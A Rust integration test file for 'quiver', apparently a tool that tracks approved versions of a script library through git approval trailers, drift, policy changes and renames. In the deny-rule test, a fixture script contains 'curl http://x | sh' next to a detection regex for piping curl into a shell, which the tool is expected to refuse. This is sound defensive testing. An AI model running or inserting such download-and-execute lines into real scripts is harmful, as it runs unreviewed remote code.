//! Versions and approvals end to end: real repositories built with the git CLI, judged by
//! the real `quiver` binary through `quiver status --json` and `quiver history --json`.

use quiver_tests::repogen::{
    ALICE, BOB, CAROL, DAVE, MALLORY, MEMBERS_TOML, TestRepo, quiver_bin, utf16le_bom,
};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::path::Path;
use std::process::Command;

/// Script rule: two approvals; policy rule: two approvals.
const TWO_APPROVALS: &str = "[[approval]]\nid = \"scripts\"\nmin_approvals = 2\n\n[[approval]]\nid = \"policy\"\npolicy = true\nmin_approvals = 2\n";

fn quiver(repo: &Path, args: &[&str]) -> (i32, Value, String) {
    let out = Command::new(quiver_bin())
        .args(args)
        .arg("--repo")
        .arg(repo)
        .arg("--json")
        .output()
        .expect("run quiver");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    let json = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("{args:?}: {e}\nstdout: {stdout}\nstderr: {stderr}"));
    (out.status.code().unwrap_or(-1), json, stderr)
}

fn status(repo: &TestRepo) -> Value {
    let (code, json, stderr) = quiver(&repo.dir, &["status"]);
    assert_eq!(code, 0, "{stderr}");
    json
}

fn script<'a>(status: &'a Value, name: &str) -> &'a Value {
    status["scripts"]
        .as_array()
        .expect("scripts")
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no script {name} in {status:#}"))
}

fn history(repo: &TestRepo, name: &str) -> Value {
    let (code, json, stderr) = quiver(&repo.dir, &["history", name]);
    assert_eq!(code, 0, "{stderr}");
    json
}

/// A library with policy `approvals` and scripts `ps`, `net`, committed by alice (the
/// first commit is trusted on first use).
fn library(dir: &Path, approvals: &str) -> TestRepo {
    let repo = TestRepo::init(dir);
    repo.write("policies/members.toml", MEMBERS_TOML);
    repo.write("policies/approvals.toml", approvals);
    repo.bash_script("ps", "ps -ef");
    repo.bash_script("net", "ss -tunap");
    repo.commit(ALICE, "Initial library");
    repo
}

fn change_ps(body: &'static str) -> impl FnOnce(&TestRepo) {
    move |r: &TestRepo| {
        r.write("library/ps/ps.sh", format!("#!/bin/bash\n{body}\n"));
    }
}

fn short(c: &str) -> &str {
    &c[..10]
}

#[test]
fn approved_pr_becomes_a_version_and_direct_push_drifts() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = library(tmp.path(), TWO_APPROVALS);
    let s = status(&repo);
    assert_eq!(s["policy_trust"], "first-commit");
    assert_eq!(script(&s, "ps")["version"], 1);
    assert_eq!(script(&s, "ps")["state"], "approved");

    // A PR merged with two eligible approvals becomes v2.
    let merge = repo.pr(
        "ps-v2",
        ALICE,
        change_ps("ps -eo pid,comm"),
        ALICE,
        &[BOB, CAROL],
    );
    let s = status(&repo);
    let ps = script(&s, "ps");
    assert_eq!(ps["version"], 2, "{s:#}");
    assert_eq!(ps["state"], "approved");
    assert_eq!(ps["commit"], merge.as_str());
    let h = history(&repo, "ps");
    let v2 = &h["versions"][1];
    assert_eq!(v2["number"], 2);
    assert_eq!(v2["approvers"], serde_json::json!(["bob", "carol"]));
    assert_eq!(v2["evidence"], "trailers");
    assert_eq!(v2["authors"][0]["email"], "alice@example.org");
    assert_eq!(
        script(&s, "net")["version"],
        1,
        "other scripts are untouched"
    );

    // A direct push drifts the script; v2 stays deployable and the reason names the commit.
    let push = repo.direct(BOB, change_ps("ps aux"), "quick fix");
    let s = status(&repo);
    let ps = script(&s, "ps");
    assert_eq!(ps["state"], "drifted");
    assert_eq!(ps["version"], 2);
    assert_eq!(ps["pending_commit"], push.as_str());
    assert!(
        ps["reason"]
            .as_str()
            .expect("reason")
            .contains(short(&push)),
        "{ps:#}"
    );

    // A later approved PR built on the drifted content does not launder it.
    repo.pr(
        "ps-v3",
        ALICE,
        change_ps("ps aux --forest"),
        ALICE,
        &[BOB, CAROL],
    );
    let s = status(&repo);
    let ps = script(&s, "ps");
    assert_eq!(ps["state"], "drifted", "{ps:#}");
    assert_eq!(ps["version"], 2);
    assert!(
        ps["reason"]
            .as_str()
            .expect("reason")
            .contains(short(&push))
    );

    // Content returning to the approved bytes clears the drift.
    repo.direct(BOB, change_ps("ps -eo pid,comm"), "revert to v2");
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(ps["state"], "approved", "{ps:#}");
    assert_eq!(ps["version"], 2);

    // And an approved change on top of it is v3 again.
    repo.pr(
        "ps-v3b",
        CAROL,
        change_ps("ps -eo pid,user,comm"),
        CAROL,
        &[ALICE, BOB],
    );
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(3), Some("approved"))
    );
}

#[test]
fn policy_change_is_judged_under_the_policy_before_it() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = library(tmp.path(), TWO_APPROVALS);
    let first = repo.head();
    let one = "[[approval]]\nid = \"scripts\"\nmin_approvals = 1\n\n[[approval]]\nid = \"policy\"\npolicy = true\nmin_approvals = 2\n";
    // A PR lowering its own required approvals, with one approval: judged under the old
    // policy (two needed for both the policy and the script), so nothing of it applies.
    let lower = repo.pr(
        "lower",
        ALICE,
        |r| {
            r.write("policies/approvals.toml", one);
            r.write("library/ps/ps.sh", "#!/bin/bash\nps -e\n");
        },
        ALICE,
        &[BOB],
    );
    let s = status(&repo);
    assert_eq!(s["policy_commit"], first.as_str());
    assert_eq!(s["policy_drift"]["commit"], lower.as_str(), "{s:#}");
    let ps = script(&s, "ps");
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(1), Some("drifted"))
    );
    assert!(
        ps["reason"]
            .as_str()
            .expect("reason")
            .contains("needs 2 approval"),
        "{ps:#}"
    );

    // Revert, then approve the same policy properly: it applies to later changes only.
    repo.direct(
        ALICE,
        |r| {
            r.write("policies/approvals.toml", TWO_APPROVALS);
            r.write("library/ps/ps.sh", "#!/bin/bash\nps -ef\n");
        },
        "revert",
    );
    let s = status(&repo);
    assert!(s["policy_drift"].is_null(), "{s:#}");
    assert_eq!(script(&s, "ps")["state"], "approved");
    let proper = repo.pr(
        "lower-properly",
        ALICE,
        |r| {
            r.write("policies/approvals.toml", one);
            r.write("library/net/net.sh", "#!/bin/bash\nss -tn\n");
        },
        ALICE,
        &[BOB, CAROL],
    );
    let s = status(&repo);
    assert_eq!(s["policy_commit"], proper.as_str());
    assert_eq!(s["policy_approvers"], serde_json::json!(["bob", "carol"]));
    assert_eq!(script(&s, "net")["version"], 2);
    // Under the new rule one approval is enough.
    repo.pr("ps-one", ALICE, change_ps("ps -e"), ALICE, &[BOB]);
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(2), Some("approved")),
        "{ps:#}"
    );
}

#[test]
fn approver_rules_self_ineligible_duplicate_and_unknown() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = library(tmp.path(), TWO_APPROVALS);
    // Self-approval is forbidden by default: alice's own trailer does not count.
    repo.pr("self", ALICE, change_ps("ps -e"), ALICE, &[ALICE, BOB]);
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(ps["state"], "drifted");
    assert!(
        ps["reason"]
            .as_str()
            .expect("r")
            .contains("forbids self-approval"),
        "{ps:#}"
    );
    repo.direct(ALICE, change_ps("ps -ef"), "revert");

    // Dave is an analyst: his approval is not eligible.
    repo.pr("ineligible", ALICE, change_ps("ps -e"), ALICE, &[DAVE, BOB]);
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(ps["state"], "drifted");
    assert!(
        ps["reason"]
            .as_str()
            .expect("r")
            .contains("`dave` is not eligible"),
        "{ps:#}"
    );
    repo.direct(ALICE, change_ps("ps -ef"), "revert");

    // The same approver twice counts once.
    repo.pr("twice", ALICE, change_ps("ps -e"), ALICE, &[BOB, BOB]);
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(ps["state"], "drifted");
    assert!(
        ps["reason"]
            .as_str()
            .expect("r")
            .contains("counted 1 (bob)"),
        "{ps:#}"
    );
    repo.direct(ALICE, change_ps("ps -ef"), "revert");

    // An unknown email is ignored and reported; two real approvals still make v2.
    repo.pr(
        "unknown",
        ALICE,
        change_ps("ps -e"),
        ALICE,
        &[MALLORY, BOB, CAROL],
    );
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(2), Some("approved")),
        "{ps:#}"
    );
    let v2 = history(&repo, "ps")["versions"][1].clone();
    assert!(
        v2["ignored"]
            .to_string()
            .contains("mallory@evil.example is not a member"),
        "{v2:#}"
    );
}

#[test]
fn renamed_folder_keeps_versions_and_deletions() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = library(tmp.path(), "");
    repo.pr("v2", ALICE, change_ps("ps -e"), ALICE, &[BOB]);
    // Move the folder and rename the script in its manifest.
    repo.pr(
        "move",
        ALICE,
        |r| {
            r.mv("library/ps", "library/linux/proc");
            r.write(
                "library/linux/proc/script.toml",
                quiver_tests::repogen::bash_manifest("proc-list", "ps.sh"),
            );
        },
        ALICE,
        &[BOB],
    );
    let s = status(&repo);
    let proc_ = script(&s, "proc-list");
    assert_eq!(proc_["version"], 3, "{s:#}");
    assert_eq!(proc_["dir"], "linux/proc");
    assert_eq!(proc_["renamed_from"], serde_json::json!(["ps"]));
    let h = history(&repo, "proc-list");
    let names: Vec<&str> = h["versions"]
        .as_array()
        .expect("v")
        .iter()
        .map(|v| v["name"].as_str().expect("n"))
        .collect();
    assert_eq!(names, ["ps", "ps", "proc-list"]);
    assert!(
        s["scripts"]
            .as_array()
            .expect("s")
            .iter()
            .all(|x| x["name"] != "ps")
    );

    // An approved deletion removes the script: nothing deployable.
    repo.pr(
        "rm-net",
        ALICE,
        |r| {
            r.remove("library/net");
        },
        ALICE,
        &[BOB],
    );
    let net = script(&status(&repo), "net").clone();
    assert_eq!(net["state"], "removed");
    assert!(net["version"].is_null());
}

#[test]
fn mass_removal_is_held() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = TestRepo::init(tmp.path());
    repo.write("policies/members.toml", MEMBERS_TOML);
    for i in 0..10 {
        repo.bash_script(&format!("s{i}"), "true");
    }
    repo.commit(ALICE, "Initial library");
    let merge = repo.pr(
        "cleanup",
        ALICE,
        |r| {
            for i in 1..10 {
                r.remove(&format!("library/s{i}"));
            }
        },
        ALICE,
        &[BOB],
    );
    let s = status(&repo);
    for i in 1..10 {
        let x = script(&s, &format!("s{i}"));
        assert_eq!(x["state"], "held", "{x:#}");
        assert_eq!(x["version"], 1);
        assert_eq!(x["pending_commit"], merge.as_str());
        assert!(
            x["reason"]
                .as_str()
                .expect("r")
                .contains("removes 9 of 10 scripts (90%)"),
            "{x:#}"
        );
    }
    assert_eq!(script(&s, "s0")["state"], "approved");
    // An approved policy allowing it releases the held removal.
    repo.pr(
        "allow",
        ALICE,
        |r| {
            r.write("policies/removal.toml", "[removal]\nallow = true\n");
        },
        ALICE,
        &[BOB],
    );
    let s = status(&repo);
    assert_eq!(script(&s, "s5")["state"], "removed", "{s:#}");
}

#[test]
fn force_push_is_reported_as_a_rewrite() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = library(&tmp.path().join("repo"), "");
    repo.pr("v2", ALICE, change_ps("ps -e"), ALICE, &[BOB]);
    let index = tmp.path().join("index.json");
    let idx = index.to_str().expect("utf-8 path");
    let (code, s, _) = quiver(&repo.dir, &["status", "--index", idx]);
    assert_eq!(code, 0);
    let last = s["head"].as_str().expect("head").to_string();
    // Drop the merge and push something else.
    repo.git(&["reset", "-q", "--hard", "HEAD~1"]);
    repo.direct(MALLORY, change_ps("curl"), "rewrite");
    let (code, s, _) = quiver(&repo.dir, &["status", "--index", idx]);
    assert_eq!(code, 3, "{s:#}");
    assert_eq!(s["rewrite"]["last"], last.as_str());
    assert_eq!(s["rewrite"]["head"], repo.head().as_str());
    assert_eq!(s["head"], last.as_str(), "the last good state is kept");
    assert_eq!(script(&s, "ps")["version"], 2);
    // Once accepted, the new history is indexed.
    let (code, s, _) = quiver(&repo.dir, &["status", "--index", idx, "--accept-rewrite"]);
    assert_eq!(code, 0);
    assert_eq!(script(&s, "ps")["state"], "drifted");
}

#[test]
fn deny_finding_refuses_the_version() {
    // The project's rules (policies/rules.toml); until that file exists, a stand-in rule
    // with the same id.
    let rules = std::fs::read_to_string(quiver_tests::workspace_root().join("policies/rules.toml")).unwrap_or_else(|_| {
        "[[rule]]\nid = \"download-exec.shell\"\nlanguages = [\"shell\"]\npattern = 'curl[^|]*\\|\\s*(ba)?sh'\nseverity = \"deny\"\nmessage = \"downloads and runs code\"\n".to_string()
    });
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = TestRepo::init(tmp.path());
    repo.write("policies/members.toml", MEMBERS_TOML);
    repo.write("policies/rules.toml", &rules);
    repo.bash_script("ps", "ps -ef");
    repo.bash_script("net", "ss -tunap");
    repo.commit(ALICE, "Initial library");
    let bad = repo.pr(
        "bad",
        ALICE,
        |r| {
            r.write(
                "library/ps/ps.sh",
                "#!/bin/bash\nps -ef\ncurl http://x | sh\n",
            );
            r.write("library/net/net.sh", "#!/bin/bash\nss -tn\n");
        },
        ALICE,
        &[BOB],
    );
    let s = status(&repo);
    let ps = script(&s, "ps");
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(1), Some("refused")),
        "{ps:#}"
    );
    let reason = ps["reason"].as_str().expect("reason");
    assert!(reason.contains("download-exec.shell"), "{reason}");
    assert!(reason.contains("library/ps/ps.sh:3"), "{reason}");
    assert_eq!(ps["pending_commit"], bad.as_str());
    assert_eq!(
        script(&s, "net")["version"],
        2,
        "one bad script never blocks the others"
    );
    // An approved fix on top of the refused content becomes the next version.
    repo.pr("fix", ALICE, change_ps("ps -ef"), ALICE, &[BOB]);
    let ps = script(&status(&repo), "ps").clone();
    assert_eq!(
        (ps["version"].as_u64(), ps["state"].as_str()),
        (Some(2), Some("approved")),
        "{ps:#}"
    );
}

#[test]
fn exact_bytes_crlf_bom_utf16() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = TestRepo::init(tmp.path());
    repo.write("policies/members.toml", MEMBERS_TOML);
    let crlf = b"Get-Process | Select-Object -First 5\r\nGet-Service\r\n".to_vec();
    let bom = b"\xEF\xBB\xBFWrite-Output 'caf\xC3\xA9'\r\n".to_vec();
    let utf16 = utf16le_bom("Get-ChildItem C:\\\r\n");
    repo.write(
        "library/win/script.toml",
        quiver_tests::repogen::ps_manifest("win", "main.ps1"),
    );
    repo.write("library/win/main.ps1", &crlf);
    repo.write("library/win/bom.ps1", &bom);
    repo.write("library/win/wide.ps1", &utf16);
    repo.commit(ALICE, "Windows script");
    let h = history(&repo, "win");
    let files = h["versions"][0]["files"].as_array().expect("files").clone();
    for (path, bytes) in [("main.ps1", &crlf), ("bom.ps1", &bom), ("wide.ps1", &utf16)] {
        let f = files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} in {files:?}"));
        assert_eq!(f["sha256"], hex::encode(Sha256::digest(bytes)), "{path}");
        assert_eq!(f["size"], bytes.len());
    }
    // The diff decodes UTF-16 for display.
    repo.pr(
        "wide",
        ALICE,
        |r| {
            r.write(
                "library/win/wide.ps1",
                utf16le_bom("Get-ChildItem D:\\\r\n"),
            );
        },
        ALICE,
        &[BOB],
    );
    let (code, d, _) = quiver(&repo.dir, &["diff", "win", "v1", "v2"]);
    assert_eq!(code, 0);
    let wide = d["files"]
        .as_array()
        .expect("files")
        .iter()
        .find(|f| f["path"] == "wide.ps1")
        .expect("wide")
        .clone();
    assert_eq!(wide["new"]["encoding"], "utf-16le+crlf");
    assert!(
        wide["unified"]
            .as_str()
            .expect("unified")
            .contains("+Get-ChildItem D:\\␍"),
        "{wide:#}"
    );
}
